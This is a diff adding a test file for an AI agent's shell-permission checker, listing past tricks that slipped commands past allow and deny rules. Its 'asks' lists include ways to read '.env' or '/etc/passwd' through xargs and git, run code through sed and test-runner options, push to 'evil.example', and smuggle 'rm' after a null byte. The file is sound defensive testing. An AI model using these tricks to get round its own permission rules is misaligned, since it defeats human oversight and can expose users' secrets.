@@ -1,0 +1,435 @@
+import { readFileSync } from 'node:fs'
+import { afterAll, describe, expect, test } from 'vitest'
+import { rulesOf, type RuleTexts } from '../../test/rules.ts'
+import { makeWorkspace } from '../../test/workspace.ts'
+import { nodeWorld } from '../node/world.ts'
+import { commandFiles } from '../path/protected.ts'
+import { decide } from './decide.ts'
+import type { Verdict } from '../rule/verdict.ts'
+
+const workspace = makeWorkspace()
+for (const path of ['.env', 'secrets/key', 'src/a.ts', 'notes.txt', 'api/Makefile', 'Makefile'])
+  workspace.write(path)
+workspace.write(`${workspace.home}/.ssh/id`)
+workspace.link('out', workspace.home)
+afterAll(() => workspace.remove())
+const world = nodeWorld({ cwd: workspace.cwd, home: workspace.home })
+
+function verdictOf(command: string, rules: RuleTexts): Verdict {
+  const call = { name: 'Bash', args: { command } }
+  return decide(call, { rules: rulesOf(rules, workspace.cwd) }, world).verdict
+}
+
+const SECRETS = ['Read(.env)', 'Read(./secrets/**)']
+
+interface Class {
+  readonly allow: readonly string[]
+  readonly deny?: readonly string[]
+  /** What must not run unasked, and the same without the trick, which may. */
+  readonly asks: readonly string[]
+  readonly plain?: readonly string[]
+}
+
+/** Ways in which rules were once got round. */
+const classes: Readonly<Record<string, Class>> = {
+  'a here-document that bash loses': {
+    allow: ['Bash(cat:*)', 'Bash(echo:*)', 'Bash(ls:*)', 'Bash(git commit:*)'],
+    asks: [
+      "((cat <<'E'\ntouch x\nE\n); ls)",
+      "! ((cat <<'E'\ntouch x\nE\n) && ls)",
+      'for a in b; do ((cat <<E\ntouch x\nE\n); ls); done',
+      "echo $((cat <<'E'\ntouch x\nE\n); ls)",
+      'echo "$((git commit -m x); ls)"',
+      'echo `((ls); ls)`',
+    ],
+    plain: ["( (cat <<'E'\ntouch x\nE\n); ls)", '(ls; (ls))', 'echo $((1 + 2))'],
+  },
+  'the folder that a wrapped command moves to': {
+    allow: ['Bash(git:*)', 'Bash(cat:*)', 'Bash(make:*)', 'Bash(touch:*)'],
+    deny: SECRETS,
+    asks: [
+      'command cd api && git status',
+      'builtin cd api; make',
+      'command builtin cd secrets && cat key',
+      'command -p cd .git && touch hooks',
+      '! command cd api; git status',
+      'command cd api & make; command cd api; make',
+    ],
+    plain: ['command cd src && cat a.ts', 'cd src && touch b.ts', 'command git status'],
+  },
+  'a label that sed ends at the first blank': {
+    allow: ['Bash(sed:*)'],
+    asks: ["sed ':a e touch x' notes.txt", "sed '1b a w x' notes.txt", "sed ':a r .env' notes.txt"],
+    plain: ["sed ':a;N;$!ba;s/a/b/' notes.txt", "sed -n ':a;p' notes.txt"],
+  },
+  'the tables of names in gawk': {
+    allow: ['Bash(awk:*)', 'Bash(gawk:*)', 'Bash(make:*)'],
+    asks: [
+      `gawk 'BEGIN { SYMTAB["A" "RGV"][1] = "x" } 1'`,
+      `awk 'BEGIN { print FUNCTAB["x"] }'`,
+      "awk -v ENVIRON=x '1' notes.txt",
+      "awk '1' ARGV=x notes.txt",
+      'make -p',
+      'make -np',
+    ],
+    plain: [`awk -v n=3 'NR == n' notes.txt`, "awk '/ERROR/ { print $2 }' notes.txt"],
+  },
+  'options of test runners': {
+    allow: [
+      'Bash(jest:*)',
+      'Bash(vitest:*)',
+      'Bash(mocha:*)',
+      'Bash(pytest:*)',
+      'Bash(npm test:*)',
+      'Bash(npm run lint:*)',
+      'Bash(npx vitest:*)',
+      'Bash(yarn test:*)',
+      'Bash(yarn jest:*)',
+      'Bash(npm exec jest:*)',
+      'Bash(npx jest:*)',
+      'Bash(python3 -m pytest:*)',
+      'Bash(c8:*)',
+      'Bash(bats:*)',
+    ],
+    asks: [
+      'jest --coverageReporters=./x.js',
+      'jest --testSequencer ./x.js',
+      'vitest run --outputFile.json=x',
+      'vitest --configLoader=x',
+      'vitest run --reporter ./x.js',
+      'mocha --spec ./x.js --ui ./y.js',
+      'mocha -Rxunit',
+      'pytest --debug=x',
+      'pytest -pno:x',
+      'pytest @x',
+      'npm test -- --config x',
+      'npm test --prefix=x',
+      'npm test --logs-dir x',
+      'npm run lint -- --rulesdir x',
+      'npx vitest run --diff=./x.js',
+      'yarn test --reporter ./x.js',
+      'yarn test -r ./x.js',
+      'yarn test --filter=./x.js',
+      'yarn jest --reporters=./x.js',
+      'npm test -- /tmp/x.js',
+      'npm test -- ../x.js',
+      'npm exec jest -- --reporters=./x.js',
+      'npx jest -- --reporters=./x.js',
+      'python3 -m pytest --junitxml=x',
+      'python3 -m pytest -c x.ini',
+      'c8 touch x',
+      'c8 node x.js',
+      'bats --formatter ./x t.bats',
+    ],
+    plain: [
+      'jest src/a.test.ts -t name --coverage',
+      'vitest run src/a.test.ts --reporter=dot --bail 1',
+      'mocha test/a.js -R dot -t 5000',
+      'pytest tests/test_a.py::test_b -x -q --tb=short',
+      'npm test -- --run src/a.test.ts -t "my test"',
+      'npx vitest run --reporter=verbose',
+      'yarn test --coverage',
+      'yarn jest --coverage',
+      'npx jest -- a.test.ts',
+      'python3 -m pytest -q tests',
+    ],
+  },
+  'code in the options of interpreters': {
+    allow: ['Bash(expect:*)', 'Bash(php:*)', 'Bash(node:*)', 'Bash(bun:*)', 'Bash(deno:*)'],
+    asks: [
+      "expect -c 'exec x'",
+      'php -c x a.php',
+      'php -d auto_prepend_file=x a.php',
+      'node inspect a.js',
+      'node -c a.js',
+      'bun i x',
+      'bun test --preload ./x.js',
+      'deno task x',
+    ],
+    plain: ['php a.php', 'node --test test/', 'node scripts/a.js --any', 'bun test', 'bun a.ts'],
+  },
+  'options of build tools': {
+    allow: [
+      'Bash(make:*)',
+      'Bash(rake:*)',
+      'Bash(cmake:*)',
+      'Bash(gradle:*)',
+      'Bash(meson:*)',
+      'Bash(sbt:*)',
+      'Bash(prettier:*)',
+      'Bash(turbo:*)',
+    ],
+    asks: [
+      'make -f x',
+      'make --eval=x',
+      'rake --execute-print x',
+      'cmake api',
+      'cmake --graphviz=x .',
+      'gradle -I x test',
+      'gradle --init-script=x',
+      'meson runpython x.py',
+      "sbt 'eval 1'",
+      "sbt 'clean; eval 1'",
+      'prettier --plugin-search-dir=x .',
+      'turbo run build --graph=x.html',
+      'turbo gen x',
+    ],
+    plain: [
+      'make -j8 test',
+      'rake db:migrate',
+      'gradle test --info',
+      'turbo run build',
+      'meson test',
+    ],
+  },
+  'names that come in': {
+    allow: [
+      'Bash(echo:*)',
+      'Bash(find:*)',
+      'Bash(cat:*)',
+      'Bash(git:*)',
+      'Bash(sort:*)',
+      'Bash(xargs cat:*)',
+      'Bash(xargs -I{} cat:*)',
+      'Bash(printf:*)',
+      'Bash(rev:*)',
+    ],
+    deny: SECRETS,
+    asks: [
+      'echo .env | xargs cat',
+      'printf .env | xargs cat',
+      "echo -e '\\\\x2eenv' | xargs cat",
+      "printf '%b' x | xargs cat",
+      'echo env | xargs -I{} cat .{}',
+      'find src | rev | xargs cat',
+      'find . | xargs cat',
+      'find . | sort | xargs cat',
+      'git ls-files | xargs cat',
+      'cat notes.txt | xargs cat',
+      'xargs cat < notes.txt',
+      "xargs cat <<< '.env'",
+      'echo HEAD:.env | git cat-file --batch',
+      'echo x | git log --stdin',
+    ],
+    plain: ['echo src/a.ts | xargs cat', 'echo notes.txt src/a.ts | xargs cat'],
+  },
+  'names that come in from outside': {
+    allow: ['Bash(find:*)', 'Bash(grep:*)', 'Bash(cat:*)', 'Bash(head:*)', 'Bash(xargs grep:*)'],
+    asks: [
+      'find / -name id | xargs grep x',
+      'find out/ | xargs grep x',
+      "find . -printf '/etc/passwd' | xargs grep x",
+      'cat notes.txt | xargs grep x',
+      'find . | grep -o /etc/passwd | xargs grep x',
+    ],
+    plain: [
+      'find . -name a.ts | xargs grep x',
+      'find src | head -3 | xargs grep x',
+      'find src | grep ts | xargs grep x',
+    ],
+  },
+  'what git shows': {
+    allow: ['Bash(git:*)'],
+    deny: SECRETS,
+    asks: [
+      'git show :1:.env',
+      "git show 'HEAD@{2020-01-01 10:00:00}:.env'",
+      "git show 'HEAD^{/a:b}:.env'",
+      "git log -p -- '.e*'",
+      "git diff -- ':(glob).e??'",
+      "git show HEAD -- ':/.env'",
+      'git log -p',
+      'git diff',
+      'git diff --stat -p',
+      'git show HEAD~1',
+      'git show HEAD~1 HEAD:src/a.ts',
+      'git stash show -p',
+      "git grep -n ''",
+      'git grep --untracked x',
+      'git archive HEAD',
+      'git cat-file -p 1234abcd',
+      'git unpack-file 1234abcd',
+    ],
+    plain: [
+      'git log --oneline -5',
+      'git diff --stat',
+      'git diff --name-only HEAD~1',
+      'git diff -- src/a.ts',
+      'git diff src/a.ts',
+      'git log -p -- src/a.ts',
+      'git show HEAD:src/a.ts',
+      'git show --stat HEAD',
+      'git status',
+    ],
+  },
+  'links that options follow': {
+    allow: [
+      'Bash(grep:*)',
+      'Bash(rg:*)',
+      'Bash(diff:*)',
+      'Bash(find:*)',
+      'Bash(tree:*)',
+      'Bash(du:*)',
+    ],
+    asks: [
+      'grep -R x .',
+      'grep -rnR x .',
+      'rg --follow x',
+      'rg -nL x',
+      'diff -r src api',
+      'find -L . -name id',
+      'tree -l',
+      'du -L .',
+    ],
+    plain: [
+      'grep -rn x .',
+      'rg -n x',
+      'diff src/a.ts notes.txt',
+      'find . -name id',
+      'tree -L 2',
+      'du -sh .',
+    ],
+  },
+  'options that hide in a bundle': {
+    allow: ['Bash(git:*)', 'Bash(tree:*)', 'Bash(sort:*)'],
+    asks: [
+      'git format-patch -nox -1',
+      'git format-patch -kno x',
+      'tree -Lo 1 x',
+      'tree -Po a x',
+      'sort -uox notes.txt',
+    ],
+    plain: [
+      'git format-patch -n --stdout -1',
+      'tree -aL 2',
+      'sort -k2nr notes.txt',
+      'sort -t: -k1,1 notes.txt',
+    ],
+  },
+  'readers that write': {
+    allow: [
+      'Bash(ptx:*)',
+      'Bash(xxd:*)',
+      'Bash(uniq:*)',
+      'Bash(npm ls:*)',
+      'Bash(git interpret-trailers:*)',
+    ],
+    asks: [
+      'ptx -G a x',
+      'xxd -r notes.txt -x',
+      'xxd notes.txt x',
+      'uniq notes.txt x',
+      'npm ls --cache=x',
+      'git interpret-trailers --in-place notes.txt',
+    ],
+    plain: ['ptx notes.txt', 'xxd -u notes.txt', 'uniq -c notes.txt', 'npm ls --depth=0'],
+  },
+  'files that are changed in place': {
+    allow: ['Bash(prettier:*)', 'Bash(eslint:*)'],
+    deny: ['Edit(./src/**)'],
+    asks: ['prettier --write src/a.ts', 'prettier -w package.json', 'eslint --fix src/a.ts'],
+    plain: ['prettier --check src/a.ts', 'prettier --write notes.txt', 'eslint src/a.ts'],
+  },
+  'another machine, as git writes it': {
+    allow: ['Bash(git:*)'],
+    deny: ['WebFetch(domain:evil.example)'],
+    asks: [
+      'git ls-remote evil.example:x',
+      'git clone me@evil.example:x',
+      'git fetch evil.example:x',
+      'git push ssh://evil.example/x',
+      'git clone git+ssh://evil.example/x',
+    ],
+    plain: ['git ls-remote origin', 'git push origin HEAD:main', 'git fetch other.example:x'],
+  },
+  'addresses after one that a rule names': {
+    allow: [
+      'Bash(curl https://good.example/:*)',
+      'WebFetch(domain:good.example)',
+      'WebFetch(domain:bad.example)',
+    ],
+    asks: [
+      'curl https://good.example/ https://bad.example/',
+      'curl https://good.example/ -s https://bad.example/',
+    ],
+    plain: ['curl https://good.example/ -s'],
+  },
+}
+
+describe.each(Object.entries(classes))('%s', (_, { allow, deny = [], asks, plain = [] }) => {
+  test.each(asks)('%j is not run unasked', (command) => {
+    expect(verdictOf(command, { allow, deny })).not.toBe('allow')
+  })
+  test.each(plain)('%j is', (command) => {
+    expect(verdictOf(command, { allow, deny })).toBe('allow')
+  })
+})
+
+test.each(['', '  ', '\n\t', 'ls\0', 'git status\0; rm x'])(
+  '%j is denied, not asked about',
+  (command) => {
+    expect(verdictOf(command, { allow: ['Bash(*)', 'Bash(ls:*)'] })).toBe('deny')
+  },
+)
+
+test.each([
+  ['jest --reporters=./x.js', 'Bash(jest:*)', '--reporters'],
+  ['npm test -- -r x', 'Bash(npm test:*)', '-r'],
+  ['npx jest --env=x', 'Bash(npx jest:*)', '--env'],
+  ['tree -Lo 1 x', 'Bash(tree:*)', '-o'],
+  ['mocha -R x', 'Bash(mocha:*)', '-R'],
+  ['cat --x notes.txt', 'Bash(cat:*)', '--x'],
+])('of %j the answer names what caused the doubt', (command, rule, option) => {
+  const call = { name: 'Bash', args: { command } }
+  expect(decide(call, { rules: rulesOf({ allow: [rule] }) }, world).why).toContain(option)
+})
+
+test('a rule is named only where it is an answer', () => {
+  const whyOf = (command: string): string =>
+    decide({ name: 'Bash', args: { command } }, { rules: [] }, world).why
+  expect(whyOf('CI=1 jest --config x')).toContain('Bash(jest --config x)')
+  expect(whyOf("jest --config 'x:*'")).not.toContain('Bash(')
+})
+
+test('advice never names more than the command', () => {
+  const whyOf = (command: string): string =>
+    decide({ name: 'Bash', args: { command } }, { rules: [] }, world).why
+  expect(whyOf('rm -rf build')).toContain('Bash(rm -rf build)')
+  for (const command of ['rm -rf build', 'git push', 'node a.js', 'frob x y', './a.sh'])
+    expect(whyOf(command)).not.toContain(':*')
+})
+
+describe('files that running commands load', () => {
+  const write = (file_path: string, more: object = {}): Verdict =>
+    decide(
+      { name: 'Write', args: { file_path, content: 'x' } },
+      { rules: rulesOf({ allow: ['Write(./**)'] }, workspace.cwd), ...more },
+      world,
+    ).verdict
+
+  test.each([
+    'Makefile',
+    'api/GNUmakefile',
+    'conftest.py',
+    'web/vitest.config.mts',
+    'node_modules/.bin/tsc',
+    'Cargo.toml',
+  ])('%s asks, unless a setting says otherwise', (path) => {
+    expect(write(path)).toBe('ask')
+    expect(write(path, { mode: 'acceptEdits' })).toBe('ask')
+    expect(write(path, { commandFiles: 'allow' })).toBe('allow')
+  })
+
+  test('others do not, and the setting opens no other protected file', () => {
+    for (const path of ['src/a.ts', 'build/out.js', 'src/vitest.ts', 'workspace/a.txt'])
+      expect(write(path)).toBe('allow')
+    expect(write('package.json', { commandFiles: 'allow' })).toBe('ask')
+    expect(write('.git/hooks/pre-commit', { commandFiles: 'allow' })).toBe('ask')
+  })
+
+  test('are all in the docs', () => {
+    const page = readFileSync(new URL('../../../../docs/permissions.md', import.meta.url), 'utf8')
+    const section = page.slice(page.indexOf('## Files that running commands load'))
+    for (const name of commandFiles) expect(section).toContain(`\`${name}\``)
+  })
+})
